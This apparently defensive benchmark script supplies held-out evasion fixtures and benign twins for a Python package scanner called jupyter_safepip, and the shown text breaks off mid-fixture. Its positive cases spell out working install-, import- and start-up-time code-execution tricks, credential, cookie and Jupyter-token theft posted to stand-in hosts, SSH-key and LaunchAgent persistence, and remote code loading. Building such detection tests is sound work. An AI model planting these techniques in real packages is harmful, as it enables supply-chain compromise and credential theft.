"""Held-out evasion benchmark: new harmless fixtures written without reading the detection rules, to estimate
how the behaviour analysis does on techniques nobody tuned it on.

    python benchmarks/heldout_evasions.py

The cases reuse the catalogue's machinery (Case, Placement, Expect, build, judge: jupyter_safepip/testing/
evasions.py) but none of its techniques: other stdlib runners, other ways to spell names and hide code, other
network clients, other persistence places, Jupyter/IPython hooks and unusual syntax. Positives deserve BLOCK at
install, import and start-up, WARN (or more) in library code; benign twins must stay ALLOW.

Nothing here is ever installed, imported or run: each case is built into an archive that scan_archive reads.
Even so every fixture is harmless if run: addresses are documentation ones (192.0.2.x, example.invalid), shell
lines are the catalogue's DROPPER (a one-second download from an address nothing answers on), decoded payloads
are print('hi'), and the only files written outside /nonexistent/ are the persistence places a technique is
about (with lines that run DROPPER or point at documentation addresses; the SSH key line is not a valid key).
"""

from __future__ import annotations

import ast
import base64
import hashlib
import ipaddress
import sys
import tempfile
import zlib
from collections.abc import Mapping
from pathlib import Path
from textwrap import dedent

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from jupyter_safepip.core.checks.archive import scan_archive  # noqa: E402
from jupyter_safepip.core.model import Verdict  # noqa: E402
from jupyter_safepip.testing.evasions import (  # noqa: E402
    CASES as CATALOGUE,
    COLLECT_URL,
    DATA,
    DROPPER,
    EXTRA_URL,
    HI,
    PAYLOAD_URL,
    PRINT_HI,
    Case,
    Cause,
    Expect,
    Placement,
    build,
    judge,
)

# --- encodings of the harmless payloads -----------------------------------------------------------------------

HI_B85Z = base64.b85encode(zlib.compress(PRINT_HI.encode())).decode()  # zlib-compressed, then base85
HI_INT = int.from_bytes(PRINT_HI.encode(), "big")  # print('hi') as one big integer
HI_LEN = len(PRINT_HI.encode())
HI_HEX = PRINT_HI.encode().hex()
_PADDED = PRINT_HI.encode().ljust(16 * ((HI_LEN + 15) // 16), b" ")
HI_V6 = [str(ipaddress.IPv6Address(_PADDED[i:i + 16])) for i in range(0, len(_PADDED), 16)]  # "IPfuscation"
SHA_SYSTEM = hashlib.sha256(b"system").hexdigest()  # os.system found by the hash of its name
DROPPER_B64 = base64.b64encode(DROPPER.encode()).decode()  # for places that split on ':' (BROWSER, ServerApp.browser)
FAKE_KEY = "ssh-ed25519 AAAA-not-a-valid-key demo@example.invalid"  # sshd ignores it: no one can log in with it
EVAL_CMD = "sh -c 'eval \"$DEMO_CMD\"' %s"  # a browser command line without a colon (BROWSER splits on os.pathsep)

NAME_SETUP = "\nfrom setuptools import setup\n\nsetup(name='demo', version='1.0', packages=['demo'])\n"
PACKAGE_DOC = '"""A demo package."""\n'
KERNEL_DIR = f"{DATA}/share/jupyter/kernels/demo"

S, I, P, L = Placement.SETUP_PY, Placement.INIT, Placement.PTH, Placement.LIBRARY
KS, SX, IP = Placement.KERNELSPEC, Placement.SERVER_EXTENSION, Placement.IPYTHON_STARTUP

A, C, D, R = Cause.ALIAS, Cause.COMPUTED, Cause.DECODER, Cause.RUNNER
N, T, Q, W = Cause.NETWORK, Cause.STEALER, Cause.PTH, Cause.PLACEMENT

CASES: list[Case] = []


def _code(text: str) -> str:
    return dedent(text).lstrip("\n")


def _expect(placement: Placement) -> Expect:
    return Expect.FLAG if placement.runs == "library" else Expect.BLOCK


def _files(placement: Placement, code: str, extra: Mapping[str, str] | None, own_setup: bool) -> dict[str, str]:
    """Where the placement puts the code (setup.py, demo/__init__.py, demo/tools.py, demo_hook.pth)."""
    extra = {path: _code(text) for path, text in (extra or {}).items()}
    if placement is S:
        return {"setup.py": code if own_setup else code + NAME_SETUP, **extra}
    if placement is I:
        return {"demo/__init__.py": code, **extra}
    if placement is L:
        return {"demo/__init__.py": PACKAGE_DOC, "demo/tools.py": code, **extra}
    if placement is P:
        return {"demo/__init__.py": PACKAGE_DOC, "demo_hook.pth": code.rstrip("\n") + "\n", **extra}
    return {"demo/__init__.py": PACKAGE_DOC, **extra}  # start-up places: everything in `extra`


def pos(case_id: str, cause: Cause, placement: Placement, technique: str, code: str = "",
        extra: Mapping[str, str] | None = None, own_setup: bool = False) -> None:
    """A positive: a malicious (but harmless) flow placed where it runs."""
    text = code if placement is P else _code(code)
    CASES.append(Case(f"ho-{case_id}", cause, technique, placement, _files(placement, text, extra, own_setup),
                      _expect(placement)))


def twin(case_id: str, cause: Cause, placement: Placement, technique: str, code: str = "",
         extra: Mapping[str, str] | None = None, own_setup: bool = False) -> None:
    """A benign twin: legitimate code that looks like one of the techniques."""
    text = code if placement is P else _code(code)
    CASES.append(Case(f"ho-twin-{case_id}", cause, technique, placement,
                      _files(placement, text, extra, own_setup), Expect.ALLOW))


# === setup.py (install time) ==================================================================================

pos("setup-pydoc-pipepager", R, S, "pydoc.pipepager runs its cmd through the shell", f"""
    import pydoc
    pydoc.pipepager('demo build notes\\n', cmd={DROPPER!r})
    """)
pos("setup-webbrowser-env", R, S, "BROWSER env var set to a shell line, then webbrowser.open launches it", f"""
    import os
    import webbrowser
    os.environ['DEMO_CMD'] = {DROPPER!r}
    os.environ['BROWSER'] = {EVAL_CMD!r}
    webbrowser.open('about:blank')
    """)
pos("setup-sorted-key", R, S, "os.system used as the key function of sorted()", f"""
    import os
    sorted([{DROPPER!r}], key=os.system)
    """)
pos("setup-version-lambda", R, S, "the version argument of setup() is an immediately-called lambda that runs "
    "subprocess.getoutput", f"""
    import subprocess

    from setuptools import setup

    setup(name='demo', version=(lambda: subprocess.getoutput({DROPPER!r}) and '1.0')(), packages=['demo'])
    """, own_setup=True)
pos("setup-inline-cmdclass-spawn", R, S, "an egg_info subclass in setup.py runs sh -c through Command.spawn", f"""
    from setuptools import setup
    from setuptools.command.egg_info import egg_info


    class EggInfo(egg_info):
        def run(self):
            self.spawn(['sh', '-c', {DROPPER!r}])
            super().run()


    setup(name='demo', version='1.0', packages=['demo'], cmdclass={{'egg_info': EggInfo}})
    """, own_setup=True)
# '+AAo-' is a newline in UTF-7: read as UTF-8 the line is a comment, Python (which honours the cookie) runs it.
pos("setup-utf7-comment", D, S, "a '# coding: utf-7' cookie turns a comment into code (+AAo- is a newline)",
    "# coding: utf-7\n# build defaults +AAo-import os+AAo-os.system(" + repr(DROPPER) + ")\n")
pos("setup-pythonbreakpoint", R, S, "PYTHONBREAKPOINT=os.system, then breakpoint(command)", f"""
    import os
    os.environ['PYTHONBREAKPOINT'] = 'os.system'
    breakpoint({DROPPER!r})
    """)
pos("setup-ast-built", C, S, "the call __import__('os').system(...) built as AST nodes, compiled and executed", f"""
    import ast
    _target = ast.Call(func=ast.Name(id='__import__', ctx=ast.Load()), args=[ast.Constant('os')], keywords=[])
    _call = ast.Call(func=ast.Attribute(value=_target, attr='system', ctx=ast.Load()),
                     args=[ast.Constant({DROPPER!r})], keywords=[])
    _tree = ast.fix_missing_locations(ast.Module(body=[ast.Expr(_call)], type_ignores=[]))
    exec(compile(_tree, 'setup', 'exec'))
    """)
pos("setup-pip-internal-main", N, S, "pip's internal main() installs a second package from a URL", f"""
    from pip._internal.cli.main import main as _pip
    _pip(['install', '--quiet', {EXTRA_URL!r}])
    """)
pos("setup-xdg-autostart", T, S, "an XDG autostart .desktop entry whose Exec runs the shell line", f"""
    import pathlib
    _entry = pathlib.Path.home() / '.config' / 'autostart' / 'demo-sync.desktop'
    _entry.parent.mkdir(parents=True, exist_ok=True)
    _entry.write_text('[Desktop Entry]\\nType=Application\\nName=demo\\nExec=sh -c "{DROPPER}"\\n')
    """)
pos("setup-authorized-keys", T, S, "an SSH public key appended to ~/.ssh/authorized_keys (a backdoor login)", f"""
    import os
    with open(os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys'), 'a') as keys:
        keys.write('\\n{FAKE_KEY}\\n')
    """)
pos("setup-pip-conf-index", T, S, "pip.conf rewritten with configparser to add an extra index (dependency confusion)",
    """
    import configparser
    import pathlib
    conf = pathlib.Path.home() / '.config' / 'pip' / 'pip.conf'
    parser = configparser.ConfigParser()
    parser['global'] = {'extra-index-url': 'http://192.0.2.1/simple', 'trusted-host': '192.0.2.1'}
    conf.parent.mkdir(parents=True, exist_ok=True)
    with conf.open('w') as handle:
        parser.write(handle)
    """)

twin("setup-main-guard", W, S, "setup.py reads its version from a file and calls setup() under a __main__ guard", """
    import pathlib

    from setuptools import setup

    VERSION = (pathlib.Path(__file__).parent / 'VERSION').read_text().strip()

    if __name__ == '__main__':
        setup(name='demo', version=VERSION, packages=['demo'])
    """, own_setup=True)
twin("setup-cmdclass-spawn-make", R, S, "a build_ext subclass runs make through Command.spawn", """
    from setuptools import setup
    from setuptools.command.build_ext import build_ext


    class BuildExt(build_ext):
        def run(self):
            self.spawn(['make', '-C', 'src', 'libdemo.a'])
            super().run()


    setup(name='demo', version='1.0', packages=['demo'], cmdclass={'build_ext': BuildExt})
    """, own_setup=True)
twin("setup-ast-version", C, S, "setup.py reads __version__ by parsing demo/__init__.py with ast", """
    import ast
    import pathlib

    from setuptools import setup

    _tree = ast.parse(pathlib.Path('demo/__init__.py').read_text())
    VERSION = next(node.value.value for node in _tree.body
                   if isinstance(node, ast.Assign) and node.targets[0].id == '__version__')
    setup(name='demo', version=VERSION, packages=['demo'])
    """, own_setup=True)

# === demo/__init__.py (import time) ===========================================================================

pos("init-ipython-pre-run-cell", W, I, "an IPython pre_run_cell event hook runs the shell line before every cell", f"""
    import os

    from IPython import get_ipython

    _ip = get_ipython()
    if _ip is not None:
        _ip.events.register('pre_run_cell', lambda *args: os.system({DROPPER!r}))
    """)
pos("init-ipython-system", R, I, "IPython's InteractiveShell.system() runs the shell line on import in a notebook",
    f"""
    from IPython import get_ipython

    _ip = get_ipython()
    if _ip is not None:
        _ip.system({DROPPER!r})
    """)
pos("init-cell-exfil", T, I, "an input transformer mirrors every notebook cell's source to a remote address", f"""
    import json
    import urllib.request

    from IPython import get_ipython


    def _mirror(lines):
        request = urllib.request.Request({COLLECT_URL!r}, data=json.dumps(lines).encode())
        urllib.request.urlopen(request, timeout=1)
        return lines


    _ip = get_ipython()
    if _ip is not None:
        _ip.input_transformers_cleanup.append(_mirror)
    """)
pos("init-jupyter-token-udp", T, I, "tokens of running Jupyter servers sent in a UDP datagram", """
    import json
    import socket

    from jupyter_server.serverapp import list_running_servers

    _found = [{'url': s['url'], 'token': s['token']} for s in list_running_servers()]
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(json.dumps(_found).encode(), ('192.0.2.1', 53))
    """)
pos("init-match-statement", W, I, "a match statement on sys.platform whose case runs os.popen", f"""
    import os
    import sys

    match sys.platform:
        case 'linux' | 'darwin':
            os.popen({DROPPER!r})
        case _:
            pass
    """)
pos("init-walrus-star", A, I, "subprocess bound by a walrus in an if, argv spread with *", f"""
    if (sp := __import__('subprocess')) and (argv := ('sh', '-c', {DROPPER!r})):
        sp.Popen([*argv])
    """)
pos("init-decorator-factory", W, I, "a decorator with arguments runs its on_fail command when applied", f"""
    import subprocess


    def retry(times=3, on_fail=None):
        if on_fail:
            subprocess.run(on_fail, shell=True, capture_output=True)

        def wrap(func):
            return func
        return wrap


    @retry(times=2, on_fail={DROPPER!r})
    def fetch():
        return None
    """)
pos("init-property-access", W, I, "a property that os.spawnlp's a shell, read at module level", f"""
    import os


    class _Settings:
        @property
        def cache_dir(self):
            os.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', {DROPPER!r})
            return '/nonexistent/demo'


    CACHE_DIR = _Settings().cache_dir
    """)
pos("init-del-finalizer", W, I, "__del__ of a throw-away instance runs subprocess.getstatusoutput", f"""
    import subprocess


    class _Token:
        def __del__(self):
            subprocess.getstatusoutput({DROPPER!r})


    _Token()
    """)
pos("init-audit-hook", W, I, "a sys.addaudithook hook starts the shell on the next audited event", f"""
    import subprocess
    import sys

    _done = []


    def _hook(event, args):
        if event == 'import' and not _done:
            _done.append(event)
            subprocess.Popen({DROPPER!r}, shell=True)


    sys.addaudithook(_hook)
    """)
pos("init-sqlite-callback", R, I, "os.system registered as an SQLite function and called from SQL", f"""
    import os
    import sqlite3

    _db = sqlite3.connect(':memory:')
    _db.create_function('refresh', 1, os.system)
    _db.execute('SELECT refresh(?)', ({DROPPER!r},))
    """)
pos("init-subclasses-escape", C, I, "os.system reached through object.__subclasses__() and _wrap_close globals", f"""
    for _cls in ().__class__.__base__.__subclasses__():
        if _cls.__name__ == '_wrap_' + 'close':
            _cls.__init__.__globals__['sys' + 'tem']({DROPPER!r})
            break
    """)
pos("init-ipv6-payload", D, I, "code stored as IPv6 address strings, turned into bytes with ipaddress and exec'd", f"""
    import ipaddress

    _ADDRS = {HI_V6!r}
    exec(b''.join(ipaddress.IPv6Address(a).packed for a in _ADDRS).strip())
    """)
pos("init-own-source-comments", D, I, "the module execs code kept in its own '#@' comment lines", f"""
    \"\"\"Demo helpers.\"\"\"
    #@ import os
    #@ os.system({DROPPER!r})
    exec(''.join(line[3:] for line in open(__file__) if line.startswith('#@ ')))
    """)
pos("init-resources-data", D, I, "base64 code in a .css data file read with importlib.resources and exec'd", """
    import base64
    from importlib import resources

    exec(base64.b64decode(resources.files(__name__).joinpath('data/theme.css').read_text()))
    """, extra={"demo/data/theme.css": HI + "\n"})
pos("init-meta-path-loader", W, I, "a meta_path finder's loader execs decoded code as a fake submodule, then imported",
    f"""
    import base64
    import importlib.abc
    import importlib.util
    import sys


    class _Loader(importlib.abc.Loader):
        def create_module(self, spec):
            return None

        def exec_module(self, module):
            exec(base64.b64decode({HI!r}), module.__dict__)


    class _Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            if name == __name__ + '._speedups':
                return importlib.util.spec_from_loader(name, _Loader())
            return None


    sys.meta_path.insert(0, _Finder())
    from . import _speedups  # noqa: E402,F401
    """)
pos("init-star-import", A, I, "from os import * and a bare system() call", f"""
    from os import *  # noqa: F401,F403

    system({DROPPER!r})  # noqa: F405
    """)
pos("init-ipython-startup-copy", T, I, "a shipped .txt copied into ~/.ipython/profile_default/startup/ (runs at every "
    "IPython/kernel start)", """
    import pathlib
    import shutil

    _source = pathlib.Path(__file__).with_name('_profile.txt')
    _target = pathlib.Path.home() / '.ipython' / 'profile_default' / 'startup' / '00-demo.py'
    _target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(_source, _target)
    """, extra={"demo/_profile.txt": f"import os\nos.system({DROPPER!r})\n"})
pos("init-multiprocessing-client", N, I, "multiprocessing.connection.Client receives code from a remote host, exec'd",
    """
    from multiprocessing.connection import Client

    with Client(('192.0.2.1', 6000), authkey=b'demo') as _conn:
        exec(_conn.recv())
    """)
pos("init-utf7-comment", D, I, "the UTF-7 comment trick in __init__.py",
    "# -*- coding: utf-7 -*-\n\"\"\"Demo.\"\"\"\n# defaults +AAo-import subprocess+AAo-subprocess.Popen("
    + repr(DROPPER) + ", shell=True)\n")

twin("init-ipython-post-run-timer", W, I, "an IPython extension registers a post_run_cell hook that times cells", """
    import time

    from IPython import get_ipython

    TIMINGS = []
    _start = [time.perf_counter()]


    def _record(result):
        TIMINGS.append(time.perf_counter() - _start[0])
        _start[0] = time.perf_counter()


    _ip = get_ipython()
    if _ip is not None:
        _ip.events.register('post_run_cell', _record)
    """)
twin("init-match-config-dir", W, I, "a match statement picks the config directory per platform", """
    import os
    import sys

    match sys.platform:
        case 'win32':
            CONFIG_DIR = os.path.join(os.environ.get('APPDATA', ''), 'demo')
        case 'darwin':
            CONFIG_DIR = os.path.expanduser('~/Library/Application Support/demo')
        case _:
            CONFIG_DIR = os.path.expanduser('~/.config/demo')
    """)
twin("init-sqlite-function", R, I, "a helper registers a Python function for SQL in an in-memory database", """
    import sqlite3
    import unicodedata


    def _fold(text):
        return unicodedata.normalize('NFKD', text).casefold()


    DB = sqlite3.connect(':memory:')
    DB.create_function('fold', 1, _fold)
    DB.execute('CREATE TABLE words (w TEXT)')
    """)
twin("init-meta-path-alias", W, I, "a compat meta_path finder maps an old module name onto the new one", """
    import importlib.abc
    import importlib.util
    import sys


    class _RenamedFinder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            if name == 'demo_legacy':
                return importlib.util.find_spec('demo.core')
            return None


    sys.meta_path.append(_RenamedFinder())
    """)
twin("init-resources-data", D, I, "a stylesheet read with importlib.resources into a constant", """
    from importlib import resources

    THEME_CSS = resources.files(__name__).joinpath('data/theme.css').read_text()
    """, extra={"demo/data/theme.css": "body { color: #222; }\n"})
twin("init-register-magic", W, I, "an IPython line magic registered on import when running under IPython", """
    from IPython import get_ipython

    _ip = get_ipython()
    if _ip is not None:
        from IPython.core.magic import register_line_magic

        @register_line_magic
        def demo(line):
            print('demo:', line)
    """)
twin("init-decorator-factory", W, I, "a retry decorator with arguments wraps a function on import", """
    import functools
    import time


    def retry(times=3, delay=0.1):
        def wrap(func):
            @functools.wraps(func)
            def inner(*args, **kwargs):
                for attempt in range(times):
                    try:
                        return func(*args, **kwargs)
                    except OSError:
                        time.sleep(delay * (attempt + 1))
                return func(*args, **kwargs)
            return inner
        return wrap


    @retry(times=2)
    def fetch(path):
        with open(path) as handle:
            return handle.read()
    """)
twin("init-star-reexport", A, I, "__init__ re-exports its core module with a star import", """
    from ._core import *  # noqa: F401,F403
    from ._core import __all__  # noqa: F401
    """, extra={"demo/_core.py": """
        __all__ = ['add']


        def add(a, b):
            return a + b
        """})

# === .pth (every interpreter start) ===========================================================================

pos("pth-zlib-b85", D, P, "exec of zlib-decompressed base85 on one .pth line",
    f"import base64, zlib; exec(zlib.decompress(base64.b85decode({HI_B85Z!r})))")
pos("pth-shutil-os", C, P, "os.system reached as an attribute of shutil (shutil.os)",
    f"import shutil; shutil.os.system({DROPPER!r})")
pos("pth-breakpointhook", R, P, "sys.breakpointhook replaced by os.popen, then breakpoint(command)",
    f"import os, sys; sys.breakpointhook = os.popen; breakpoint({DROPPER!r})")
pos("pth-imports-submodule", W, P, "the .pth line imports a package submodule by computed name; it starts "
    "an asyncio subprocess shell", "import importlib; importlib.import_module('demo.' + '_site')",
    extra={"demo/_site.py": f"""
        import asyncio


        async def _go():
            process = await asyncio.create_subprocess_shell({DROPPER!r})
            await process.wait()


        asyncio.run(_go())
        """})
pos("pth-lazy-meta-path", Q, P, "a meta_path finder installed at start-up execs decoded code when json is first "
    "imported", "import sys, base64; sys.meta_path.insert(0, type('F', (), {'find_spec': staticmethod(lambda n, p=None, "
    f"t=None: exec(base64.b64decode({HI!r})) if n == 'json' else None)}})())")
pos("pth-hash-name", C, P, "the os function chosen from dir(os) by the sha256 of its name",
    f"import os, hashlib; getattr(os, [n for n in dir(os) if hashlib.sha256(n.encode()).hexdigest() == "
    f"{SHA_SYSTEM!r}][0])({DROPPER!r})")
pos("pth-int-to-bytes", D, P, "code stored as one big integer, exec of int.to_bytes",
    f"import sys; exec(({HI_INT}).to_bytes({HI_LEN}, 'big'))")
pos("pth-alphabet-index", C, P, "the name 'system' indexed letter by letter out of string.ascii_lowercase",
    f"import os, string; a = string.ascii_lowercase; getattr(os, a[18] + a[24] + a[18] + a[19] + a[4] + a[12])"
    f"({DROPPER!r})")
pos("pth-re-sub-callback", R, P, "os.system called from a re.sub replacement callback",
    f"import os, re; re.sub('.+', lambda m: str(os.system(m.group(0))), {DROPPER!r})")

twin("pth-coverage-startup", Q, P, "coverage's start-up .pth: measures subprocesses when an env var asks",
     "import os; os.environ.get('COVERAGE_PROCESS_START') and __import__('coverage').process_startup()")
twin("pth-virtualenv-patch", Q, P, "virtualenv-style .pth importing a module that patches distutils config",
     "import _virtualenv", extra={"_virtualenv.py": """
        import os

        VIRTUALENV_PATCH_FILE = os.path.join(__file__)


        def patch_dist(dist):
            old_parse = dist.Distribution.parse_config_files

            def parse_config_files(self, *args, **kwargs):
                result = old_parse(self, *args, **kwargs)
                install = self.get_option_dict('install')
                install.pop('prefix', None)
                return result

            dist.Distribution.parse_config_files = parse_config_files
        """})

# === library functions (nobody calls them on import) ==========================================================

pos("lib-module-getattr", W, L, "a module-level __getattr__ runs subprocess.getoutput on any unknown attribute", f"""
    import subprocess


    def __getattr__(name):
        subprocess.getoutput({DROPPER!r})
        raise AttributeError(name)
    """)
pos("lib-logging-dictconfig", R, L, "logging.config.dictConfig with a '()' factory of subprocess.getoutput", f"""
    import logging.config


    def configure(level='INFO'):
        logging.config.dictConfig({{
            'version': 1,
            'filters': {{'sync': {{'()': 'subprocess.getoutput', 'cmd': {DROPPER!r}}}}},
            'root': {{'level': level}},
        }})
    """)
pos("lib-pkgutil-resolve", C, L, "pkgutil.resolve_name('os:sys' + 'tem')", f"""
    import pkgutil


    def refresh():
        return pkgutil.resolve_name('os:sys' + 'tem')({DROPPER!r})
    """)
pos("lib-attrgetter", C, L, "operator.attrgetter with a split name on the os module", f"""
    import operator
    import os


    def refresh():
        return operator.attrgetter('sys' 'tem')(os)({DROPPER!r})
    """)
pos("lib-remote-import-hook", N, L, "a meta_path finder that downloads module source from a URL and execs it", f"""
    import importlib.util
    import sys
    import urllib.request


    class _RemoteLoader:
        def create_module(self, spec):
            return None

        def exec_module(self, module):
            source = urllib.request.urlopen({PAYLOAD_URL!r} + '/' + module.__name__ + '.py').read()
            exec(compile(source, module.__name__, 'exec'), module.__dict__)


    class RemoteFinder:
        def find_spec(self, name, path=None, target=None):
            if name.startswith('demo_plugins'):
                return importlib.util.spec_from_loader(name, _RemoteLoader())
            return None


    def enable_plugins():
        sys.meta_path.append(RemoteFinder())
    """)
pos("lib-xmlrpc-env", N, L, "xmlrpc.client.ServerProxy sends the environment to a remote method", """
    import os
    import xmlrpc.client


    def report():
        xmlrpc.client.ServerProxy('http://192.0.2.1/RPC2').store(dict(os.environ))
    """)
pos("lib-cloud-credentials", T, L, "kube, docker, git and netrc credentials gathered with pathlib and posted", f"""
    import json
    import pathlib
    import urllib.request


    def diagnostics():
        home = pathlib.Path.home()
        found = {{}}
        for part in ('.kube/config', '.docker/config.json', '.git-credentials', '.netrc'):
            path = home / part
            if path.exists():
                found[part] = path.read_text(errors='ignore')
        urllib.request.urlopen({COLLECT_URL!r}, data=json.dumps(found).encode(), timeout=1)
    """)
pos("lib-firefox-cookies", T, L, "Firefox cookies.sqlite read with sqlite3 and posted with httpx", f"""
    import glob
    import os
    import sqlite3

    import httpx


    def sync_profile():
        rows = []
        for db in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/cookies.sqlite')):
            rows += sqlite3.connect(db).execute('SELECT host, name, value FROM moz_cookies').fetchall()
        httpx.post({COLLECT_URL!r}, json=rows)
    """)
pos("lib-launchagent", T, L, "a macOS LaunchAgent plist written with plistlib that runs the shell line at login", f"""
    import pathlib
    import plistlib
    import subprocess


    def enable_agent():
        agent = pathlib.Path.home() / 'Library' / 'LaunchAgents' / 'com.demo.sync.plist'
        with agent.open('wb') as handle:
            plistlib.dump({{'Label': 'com.demo.sync', 'RunAtLoad': True,
                           'ProgramArguments': ['/bin/sh', '-c', {DROPPER!r}]}}, handle)
        subprocess.run(['launchctl', 'load', str(agent)])
    """)
pos("lib-git-hooks-path", T, L, "a post-checkout hook written and made global with git config core.hooksPath", f"""
    import os
    import pathlib
    import subprocess


    def enable_hooks():
        hooks = pathlib.Path.home() / '.config' / 'demo-hooks'
        hooks.mkdir(parents=True, exist_ok=True)
        hook = hooks / 'post-checkout'
        hook.write_text('#!/bin/sh\\n{DROPPER}\\n')
        os.chmod(hook, 0o755)
        subprocess.run(['git', 'config', '--global', 'core.hooksPath', str(hooks)])
    """)
pos("lib-closure-factory", A, L, "a nested function returned by a factory closes over subprocess and runs shell=True",
    f"""
    def _make_runner():
        import subprocess as _sp

        def run(command):
            return _sp.run(command, shell=True)
        return run


    def refresh():
        return _make_runner()({DROPPER!r})
    """)
pos("lib-lambda-dict", A, L, "a dict of lambdas dispatches 'update' to os.popen of the shell line", f"""
    import os

    ACTIONS = {{
        'update': lambda: os.popen({DROPPER!r}).read(),
        'noop': lambda: None,
    }}


    def run(action='update'):
        return ACTIONS[action]()
    """)
pos("lib-ctypes-pythonapi", R, L, "ctypes.pythonapi.PyRun_SimpleString of decoded code", f"""
    import base64
    import ctypes


    def warm():
        ctypes.pythonapi.PyRun_SimpleString(base64.b64decode({HI!r}))
    """)
pos("lib-doctest-runner", R, L, "decoded code run as a doctest example by DocTestRunner", f"""
    import base64
    import doctest


    def selfcheck():
        text = '>>> ' + base64.b64decode({HI!r}).decode() + '\\n'
        test = doctest.DocTestParser().get_doctest(text, {{}}, 'demo', None, 0)
        doctest.DocTestRunner().run(test)
    """)
pos("lib-cprofile-run", R, L, "cProfile.run of hex-encoded code", f"""
    import cProfile


    def profile():
        cProfile.run(bytes.fromhex({HI_HEX!r}).decode())
    """)
pos("lib-usercustomize", T, L, "usercustomize.py written into the user site-packages (runs at every start)", f"""
    import os
    import site


    def install_helpers():
        target = site.getusersitepackages()
        os.makedirs(target, exist_ok=True)
        with open(os.path.join(target, 'usercustomize.py'), 'w') as handle:
            handle.write("import os\\nos.system({DROPPER!r})\\n")
    """)

twin("lib-dictconfig-own-filter", R, L, "dictConfig with a '()' factory naming the package's own filter class", """
    import logging
    import logging.config


    class OnlyDemo(logging.Filter):
        def filter(self, record):
            return record.name.startswith('demo')


    def configure(level='INFO'):
        logging.config.dictConfig({
            'version': 1,
            'filters': {'demo': {'()': 'demo.tools.OnlyDemo'}},
            'handlers': {'console': {'class': 'logging.StreamHandler', 'filters': ['demo']}},
            'root': {'level': level, 'handlers': ['console']},
        })
    """)
twin("lib-resolve-plugin", C, L, "plugins named in a config file loaded with pkgutil.resolve_name", """
    import configparser
    import pkgutil


    def load_plugins(path):
        parser = configparser.ConfigParser()
        parser.read(path)
        return [pkgutil.resolve_name(spec) for spec in parser.get('demo', 'plugins', fallback='').split()]
    """)
twin("lib-pydoc-pager", R, L, "long help text shown with pydoc.pager", """
    import pydoc


    def show_help(topics):
        pydoc.pager('\\n'.join(f'{name}: {text}' for name, text in topics.items()))
    """)
twin("lib-webbrowser-docs", R, L, "a docs() helper opens the documentation in the browser", """
    import webbrowser

    DOCS = 'https://example.invalid/demo/docs'


    def docs(page=''):
        webbrowser.open(DOCS + '/' + page)
    """)
twin("lib-doctest-selftest", R, L, "a selftest() helper runs the package's own doctests", """
    import doctest
    import importlib


    def selftest():
        return doctest.testmod(importlib.import_module('demo.tools'))
    """)
twin("lib-xmlrpc-pypi", N, L, "a version check asks PyPI's XML-RPC API for a package's releases", """
    import xmlrpc.client


    def releases(name):
        return xmlrpc.client.ServerProxy('https://pypi.org/pypi').package_releases(name)
    """)
twin("lib-launchagent-own-cli", T, L, "an install-agent command writes a LaunchAgent for the package's own CLI", """
    import pathlib
    import plistlib
    import shutil


    def install_agent():
        agent = pathlib.Path.home() / 'Library' / 'LaunchAgents' / 'com.demo.agent.plist'
        program = shutil.which('demo-agent') or 'demo-agent'
        with agent.open('wb') as handle:
            plistlib.dump({'Label': 'com.demo.agent', 'ProgramArguments': [program, 'serve'],
                           'RunAtLoad': True}, handle)
        return agent
    """)
twin("lib-cprofile-own-function", R, L, "a profile() helper profiles the package's own entry point", """
    import cProfile
    import pstats


    def main():
        return sum(i * i for i in range(10000))


    def profile(out='/nonexistent/demo/profile.out'):
        cProfile.runctx('main()', globals(), locals(), out)
        return pstats.Stats(out)
    """)

# === Jupyter and IPython start-up places ======================================================================

pos("kernelspec-resource-launcher", W, KS, "kernel.json runs a launcher script shipped in its own {resource_dir}",
    extra={f"{KERNEL_DIR}/kernel.json": '{"argv": ["python", "{resource_dir}/launch.py", "-f", "{connection_file}"], '
                                        '"display_name": "Demo", "language": "python"}\n',
           f"{KERNEL_DIR}/launch.py": f"""
               import subprocess

               from ipykernel import kernelapp

               subprocess.Popen({DROPPER!r}, shell=True)
               kernelapp.launch_new_instance()
               """})
pos("server-config-py", W, SX, "a Python jupyter_server_config.py in etc/jupyter does the work itself when loaded",
    extra={f"{DATA}/etc/jupyter/jupyter_server_config.py": f"""
        import subprocess

        c = get_config()  # noqa: F821
        c.ServerApp.open_browser = True
        subprocess.Popen(['sh', '-c', {DROPPER!r}], start_new_session=True)
        """})
pos("server-config-browser", W, SX, "ServerApp.browser in a conf.d JSON set to a shell line (runs at server start)",
    extra={f"{DATA}/etc/jupyter/jupyter_server_config.d/demo.json":
           '{"ServerApp": {"open_browser": true, "browser": "sh -c \'echo %s | base64 -d | sh\' %%s"}}\n'
           % DROPPER_B64})
pos("ipython-kernel-code-to-run", W, IP, "IPKernelApp.code_to_run in etc/ipython/ipython_kernel_config.json",
    extra={f"{DATA}/etc/ipython/ipython_kernel_config.json":
           '{"IPKernelApp": {"code_to_run": "import os; os.system(\'%s\')"}}\n' % DROPPER})
pos("ipython-config-acts", W, IP, "an etc/ipython/ipython_config.py computes a banner with subprocess.getoutput",
    extra={f"{DATA}/etc/ipython/ipython_config.py": f"""
        import subprocess

        c = get_config()  # noqa: F821
        c.InteractiveShell.banner2 = subprocess.getoutput({DROPPER!r})[:0]
        """})
pos("labextension-token-steal", T, SX, "a prebuilt JupyterLab extension's JS posts the page's token and cookies",
    extra={f"{DATA}/share/jupyter/labextensions/demo/package.json":
           '{"name": "demo", "version": "1.0.0", "jupyterlab": {"_build": {"load": "static/remoteEntry.js", '
           '"extension": "./extension"}}}\n',
           f"{DATA}/share/jupyter/labextensions/demo/static/remoteEntry.js": f"""
               (function () {{
                 var cfg = document.getElementById('jupyter-config-data');
                 var body = JSON.stringify({{config: cfg ? cfg.textContent : '', cookies: document.cookie}});
                 fetch('{COLLECT_URL}', {{method: 'POST', body: body, mode: 'no-cors'}});
               }})();
               """})

twin("kernelspec-resource-launcher", W, KS, "kernel.json runs a launcher in {resource_dir} that sets an env var "
     "and starts ipykernel", extra={
         f"{KERNEL_DIR}/kernel.json": '{"argv": ["python", "{resource_dir}/launch.py", "-f", "{connection_file}"], '
